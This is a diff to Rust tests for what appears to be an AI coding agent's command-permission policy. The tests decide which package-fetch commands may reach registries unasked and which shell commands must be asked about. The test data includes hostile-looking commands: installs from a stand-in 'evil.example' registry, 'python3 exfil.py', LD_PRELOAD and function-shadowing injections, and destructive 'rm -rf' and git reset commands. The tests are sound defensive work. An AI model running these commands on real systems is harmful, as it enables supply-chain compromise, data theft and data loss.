@@ -27,6 +27,83 @@ fn judge(mode: Mode, effects: &Effects, sandbox: Option<&Enforcement>) -> Verdic
 }
 
 #[test]
+fn only_what_fetches_packages_reaches_a_registry_unasked() {
+    let with = |command: &str, hosts: &[&str]| Effects {
+        hosts: hosts.iter().map(|&name| name.to_owned()).collect(),
+        ..runs(command)
+    };
+    let registry = ["registry.npmjs.org", "index.crates.io", "pypi.org", "proxy.golang.org", "rubygems.org"];
+    let fetches = [
+        "npm ci",
+        "npm install --no-audit left-pad",
+        "yarn",
+        "pnpm install --frozen-lockfile",
+        "cargo fetch",
+        "cargo build --release",
+        "cargo +nightly update -p serde",
+        "pip install -r requirements.txt",
+        "python3 -m pip install requests",
+        "uv sync",
+        "go mod download",
+        "bundle install",
+        "cd web && npm ci 2>&1 | tail -5",
+        "timeout 300 npm ci",
+        "npm ci > log",
+        "mvn -q dependency:go-offline",
+        "dotnet restore",
+        "mix deps.get",
+    ];
+    for command in fetches {
+        let verdict = judge(Mode::Auto, &with(command, &registry), Some(&full()));
+        assert_eq!((verdict.level, verdict.decision), (Level::Shell, Allow), "{command}: {verdict:?}");
+        assert_eq!(
+            judge(Mode::Auto, &with(command, &["example.com"]), Some(&full())).decision,
+            Ask,
+            "{command}"
+        );
+        assert_eq!(judge(Mode::Edit, &with(command, &registry), Some(&full())).decision, Ask, "{command}");
+    }
+    let others = [
+        "python3 exfil.py",
+        "node -e 'x()'",
+        "npm run build",
+        "npm test",
+        "npm publish",
+        "npm token create",
+        "npm login",
+        "npm ci && npm publish",
+        "npm ci && node x.js",
+        "npm ci; ./x",
+        "npx create-app",
+        "npm exec x",
+        "cargo publish",
+        "cargo login",
+        "cargo run",
+        "cargo test",
+        "gem push x.gem",
+        "bundle exec rake release",
+        "pip install -i https://evil.example x",
+        "npm ci --registry=https://evil.example",
+        "$x ci",
+        "npm $x",
+        "sh -c 'npm ci; ./x'",
+        "./npm ci",
+        "LD_PRELOAD=x npm ci",
+        "npm() { evil; }; npm ci",
+        "mvn compile exec:java",
+        "gradle assemble runIt",
+        "ls",
+        "make -n",
+    ];
+    for command in others {
+        let verdict = judge(Mode::Auto, &with(command, &["registry.npmjs.org"]), Some(&full()));
+        assert_eq!(verdict.decision, Ask, "{command}: {verdict:?}");
+    }
+    let told = judge(Mode::Auto, &with("python3 x.py", &["registry.npmjs.org"]), Some(&full())).reason;
+    assert!(told.contains("take uploads too"), "{told}");
+}
+
+#[test]
 fn modes_by_levels() {
     let hosts = |names: &[&str]| Effects {
         hosts: names.iter().map(|&name| name.to_owned()).collect(),
@@ -43,7 +120,8 @@ fn modes_by_levels() {
         (runs("rm -rf target"), Level::Shell, [Deny, Ask, Ask, Allow]),
         (runs("git push"), Level::System, [Deny, Ask, Ask, Ask]),
         (reaches, Level::System, [Deny, Ask, Ask, Ask]),
-        (hosts(&["static.crates.io", "index.crates.io"]), Level::Shell, [Deny, Ask, Ask, Allow]),
+        (hosts(&["static.crates.io", "index.crates.io"]), Level::System, [Deny, Ask, Ask, Ask]),
+        (runs("touch x"), Level::Edit, [Deny, Ask, Allow, Allow]),
         (hosts(&["static.crates.io", "example.com"]), Level::System, [Deny, Ask, Ask, Ask]),
         (writes(&["a", "sub/.envrc"]), Level::System, [Deny, Ask, Ask, Ask]),
         (writes(&[".journeyman/policy.toml"]), Level::System, [Deny, Ask, Ask, Ask]),
@@ -190,8 +268,8 @@ fn what_undoing_may_not_bring_back_is_asked_for_in_every_mode() {
         "git checkout -- src/lib.rs",
         "git reset --hard",
         "git restore x",
-        "git stash",
-        "git stash -u",
+        "git stash --all",
+        "git stash -a",
         "git stash drop",
         "rm -rf .",
         "rm -rf ./",
@@ -235,12 +313,15 @@ fn what_undoing_may_not_bring_back_is_asked_for_in_every_mode() {
         "chmod -R u+w src",
         "truncate -s 0 log.txt",
         "mv a b",
+        "git stash",
     ];
     for (commands, decision) in [(asked.as_slice(), Ask), (allowed.as_slice(), Allow)] {
         for command in commands {
             let verdict = judge(Mode::Auto, &runs(command), Some(&full()));
             assert_eq!(verdict.decision, decision, "{command}: {verdict:?}");
-            assert_eq!(judge(Mode::Edit, &runs(command), Some(&full())).decision, Ask, "{command}");
+            let edit = judge(Mode::Edit, &runs(command), Some(&full()));
+            let expected = if edit.level == Level::Edit { Allow } else { Ask };
+            assert_eq!(edit.decision, expected, "{command}: {edit:?}");
         }
     }
     let verdict = judge(Mode::Auto, &runs("rm -rf ."), Some(&full()));
